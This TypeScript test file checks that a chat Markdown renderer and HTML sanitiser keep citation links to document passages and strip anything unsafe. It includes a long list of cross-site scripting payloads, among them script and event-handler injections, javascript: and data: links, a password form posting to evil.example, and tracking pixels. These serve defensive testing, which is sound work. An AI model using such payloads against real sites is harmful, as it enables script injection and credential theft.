import fc from 'fast-check'
import t from 'tap'
import { asMarkdown } from '../../src/chats/as-markdown.ts'
import { render } from '../../src/chats/markdown.ts'
import { sanitise } from '../../src/chats/sanitise.ts'
import { attributesOf, elementsOf, textOf } from '../support/html.ts'

const threePassages = { citations: (n: number) => (n <= 3 ? `/documents/d#passage-${n}` : undefined) }
const shown = (markdown: string) => render(markdown, threePassages)
const links = (html: string) => elementsOf(html).filter(({ tagName }) => tagName === 'a')
const hrefs = (html: string) => links(html).map((link) => attributesOf(link).href)

const allowed: Record<string, string[]> = {
  a: ['href', 'rel', 'class', 'aria-label'],
  code: ['class'],
  div: ['class'],
  ol: ['start'],
  pre: ['tabindex'],
  td: ['class'],
  th: ['class'],
  ...Object.fromEntries(
    'blockquote bdi br em h3 h4 h5 h6 hr li p s span strong table tbody thead tr ul'.split(' ').map((tag) => [tag, []])
  )
}

/** Whatever a browser would make of it that must not be there. */
function forbidden(html: string): string[] {
  return elementsOf(html).flatMap((element) => {
    const { tagName, namespaceURI, attrs } = element
    const known = namespaceURI === 'http://www.w3.org/1999/xhtml' ? allowed[tagName] : undefined
    if (!known) return [`<${tagName}>`]
    const href = attributesOf(element).href ?? '#'
    const leads = /^(?:https?:\/\/|mailto:|#|\/(?![/\\]))/.test(href) ? [] : [href]
    return [...attrs.filter(({ name }) => !known.includes(name)).map(({ name }) => `${tagName} ${name}`), ...leads]
  })
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)" id="brand" name="x">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<a target=_blank href="//evil.example">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](<javascript:alert(1)>)',
  '[x](http://a.example "onmouseover=alert(1) x=\\"")',
  '[x](http://a.example/"onmouseover="alert(1))',
  "[x](http://a.example/'><script>alert(1)</script>)",
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/pixel.png)](https://evil.example)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover=alert(1)>',
  '[1]: javascript:alert(1)\n\n[1] [x][1]',
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script\\>alert(1)\\</script\\>',
  '[a](http://a.example)<!-- [b](javascript:alert(1)) -->'
]

t.test('a citation leads to its passage and says so by name', async (t) => {
  const html = shown('The landlord pays [1][2].')
  t.same(hrefs(html), ['/documents/d#passage-1', '/documents/d#passage-2'])
  t.same(
    links(html).map((link) => attributesOf(link)['aria-label']),
    ['Source 1', 'Source 2']
  )
  t.equal(textOf(html).trim(), 'The landlord pays [1][2].')
})

t.test('a number without a passage stays text', async (t) => {
  t.same(hrefs(shown('So it says [9].')), [])
  t.match(textOf(shown('So it says [9].')), 'So it says [9].')
})

t.test('no text turns a citation into a link to somewhere else', async (t) => {
  for (const markdown of [
    '[1](https://evil.example)',
    '[1]: https://evil.example\n\nSee [1].',
    '[1][1]',
    '[1] (https://evil.example)'
  ])
    for (const href of hrefs(shown(markdown))) t.equal(href, '/documents/d#passage-1', markdown)
})

t.test('what would define a link is shown like anything else', async (t) => {
  t.equal(
    textOf(shown('[terms]: https://evil.example\n\nSee [terms].')).trim(),
    '[terms]: https://evil.example\nSee [terms].'
  )
})

t.test('no passage stands where a script would run', async (t) => {
  for (const address of [
    'javascript:alert(1)',
    '//evil.example',
    '/\\evil.example',
    'data:text/html,x',
    '" onclick="alert(1)'
  ])
    t.same(hrefs(render('See [1].', { citations: () => address })), [undefined], address)
})

t.test('in code a number in brackets is code', async (t) => {
  t.same(hrefs(shown('`list[1]`\n\n```\nlist[2]\n```')), [])
})

t.test('a link off this site says where it leads, and hands nothing over', async (t) => {
  const html = shown('[the terms](https://example.com/terms?a=1&b=2)')
  t.equal(textOf(html).trim(), 'the terms (example.com ↗)')
  t.same(links(html).map(attributesOf), [
    { href: 'https://example.com/terms?a=1&b=2', rel: 'noopener noreferrer nofollow' }
  ])
})

t.test('a link cannot pretend to lead somewhere else', async (t) => {
  t.match(textOf(shown('[bank.example](https://evil.example)')), 'bank.example (evil.example ↗)')
  t.match(textOf(shown('[https://bank.example](https://bank.example@evil.example)')), '(evil.example ↗)')
  t.match(textOf(shown('[bаnk.example](https://bаnk.example)')), '(xn--')
  t.notMatch(shown('[a\u202e](https://evil.example)'), '\u202e')
})

t.test('an address that is shown as it is gets only the mark', async (t) => {
  t.equal(textOf(shown('<https://example.com/a>')).trim(), 'https://example.com/a ↗')
  t.equal(textOf(shown('[example.com](https://example.com/)')).trim(), 'example.com ↗')
})

t.test('a mail address may be written to', async (t) => {
  t.equal(textOf(shown('[write](mailto:ann@example.com)')).trim(), 'write (ann@example.com ↗)')
  t.same(hrefs(shown('<ann@example.com>')), ['mailto:ann@example.com'])
})

t.test('a link that may lead nowhere is left as its text', async (t) => {
  for (const address of [
    'javascript:alert(1)',
    'data:text/html,x',
    '/logout',
    '//evil.example',
    '#top',
    'ftp://a.example',
    'mailto:x'
  ]) {
    const html = shown(`See [**this**](${address}) now.`)
    t.equal(textOf(html).trim(), 'See this now.', address)
    t.same(hrefs(html), [], address)
  }
})

t.test('of an image only its words are shown', async (t) => {
  const html = shown('Look: ![a *red* door](https://evil.example/pixel.png)')
  t.equal(textOf(html).trim(), 'Look: a red door')
  t.notMatch(html, 'evil.example')
})

t.test('HTML is text', async (t) => {
  t.equal(textOf(shown('<b>bold</b> & <u>more</u>')).trim(), '<b>bold</b> & <u>more</u>')
})

t.test('tables, code, lists and headings are set', async (t) => {
  const html = shown(
    '# One\n\n3. a\n\n- b\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```js\nlet a = 1 < 2\n```\n\n> *so* **be** ~~it~~'
  )
  const names = elementsOf(html).map(({ tagName }) => tagName)
  for (const name of ['h3', 'ol', 'ul', 'table', 'thead', 'tbody', 'pre', 'code', 'blockquote', 'em', 'strong', 's'])
    t.ok(names.includes(name), name)
  t.match(html, '<ol start="3">')
  t.match(html, '<td class="align-right">2</td>')
  t.match(html, '<pre tabindex="0"><code class="language-js">let a = 1 &lt; 2')
})

t.test('known attacks come out as text', async (t) => {
  for (const payload of payloads) {
    for (const markdown of [
      payload,
      `- ${payload}`,
      `> a ${payload} b`,
      `[${payload}](https://a.example)`,
      `[1]${payload}[1]`
    ])
      t.same(forbidden(shown(markdown)), [], markdown)
  }
})

const scraps = fc.constantFrom(
  ...payloads,
  ...[
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    '\\',
    '`',
    '&',
    '[',
    ']',
    '(',
    ')',
    '![',
    '[1]',
    '[x](',
    'http://e.example',
    '|',
    '---'
  ],
  ...[
    '```',
    '*',
    '_',
    '~~',
    '#',
    '- ',
    '1. ',
    '\n',
    '\n\n',
    '    ',
    '\u0000',
    '\u202e',
    'a',
    'é',
    '漢',
    '🙂',
    '&#106;',
    '<!--'
  ],
  ...['<td class="', '<p title="', '-->', '<plaintext>', '<textarea>', 'onclick=alert(1)', ' ']
)
const soup = fc.oneof(
  fc.array(scraps, { maxLength: 20 }).map((parts) => parts.join('')),
  fc.string({ unit: 'grapheme' })
)

t.test('whatever is written, only what is allowed comes out', async (t) => {
  fc.assert(
    fc.property(soup, (markdown) => forbidden(shown(markdown)).length === 0),
    { numRuns: 2000 }
  )
  t.pass()
})

t.test('the sanitiser stands by itself, whatever a renderer lets through', async (t) => {
  for (const payload of payloads) t.same(forbidden(sanitise(payload)), [], payload)
  fc.assert(
    fc.property(soup, (html) => forbidden(sanitise(html)).length === 0),
    { numRuns: 2000 }
  )
})

t.test('half of an answer is as safe as the whole, and shows what is there', async (t) => {
  const whole =
    'Text [1] and [a link](https://example.com/a) `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a\n```\n'
  for (let length = 0; length <= whole.length; length += 1) {
    const html = shown(whole.slice(0, length))
    t.same(forbidden(html), [], whole.slice(0, length))
  }
  t.match(
    shown('```js\nlet a = "<script>"'),
    '<pre tabindex="0"><code class="language-js">let a = &quot;&lt;script&gt;&quot;'
  )
  t.same(hrefs(shown('[a link](https://exam')), [])
})

t.test('text written as Markdown is shown as it was', async (t) => {
  const collapsed = (text: string) => text.replace(/\s+/g, ' ').trim()
  const samples = [
    '# 1. *a* _b_ [1] [x](http://a) <b> &amp; `c` ~~d~~ \\ | e',
    '- item',
    '1) one',
    '+ plus',
    '> quote',
    '=== a',
    '12. x',
    '---'
  ]
  for (const text of samples) t.equal(textOf(shown(asMarkdown(text))).trim(), text)
  const readable = soup.filter((text) => !/[\u0000\u202a-\u202e\u2066-\u2069]/.test(text))
  fc.assert(
    fc.property(readable, (text) => {
      const html = shown(asMarkdown(text))
      return collapsed(textOf(html)) === collapsed(text) && elementsOf(html).every(({ tagName }) => tagName === 'p')
    }),
    { numRuns: 2000 }
  )
})
